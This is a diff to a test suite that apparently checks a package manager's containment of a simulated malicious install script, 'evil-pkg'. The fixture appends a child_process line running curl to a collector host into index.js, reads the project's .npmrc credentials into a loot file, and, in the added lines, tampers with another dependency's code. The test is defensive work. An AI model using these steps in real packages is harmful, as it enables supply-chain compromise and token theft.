@@ -106,6 +106,8 @@ try {
   cp.execSync("echo \"require('child_process').exec('curl $collector_ip:4444')\" >> index.js",
               {cwd: root, env: Object.assign({}, process.env, {npm_package_name: 'victim'})});
 } catch (e) {}
+// Another package's code (trojanising a trusted dependency): a line appended to good-a.
+try { fs.appendFileSync(root + '/node_modules/good-a/index.js', '\n// evil-pkg was here\n'); } catch (e) {}
 // What it could read, left in the project (checked from outside: no token may be in it).
 try { loot += fs.readFileSync(root + '/.npmrc', 'utf8'); } catch (e) { loot += 'no project .npmrc '; }
 try { fs.writeFileSync(root + '/loot.txt', loot); } catch (e) {}
@@ -214,6 +216,8 @@ check_evil_pkg_contained() {
   if [[ "$what" == *"as root"* ]]; then
     grep -qE "project-files-changed: .*evil-pkg@1.0.0 .*index.js" "$dir/err" ||
       fail "$what: the summary does not report evil-pkg changing index.js"
+    grep -qE "package-files-changed: .*evil-pkg@1.0.0 .*node_modules/good-a/index.js" "$dir/err" ||
+      fail "$what: the summary does not report evil-pkg changing good-a"
   fi
   return 0
 }
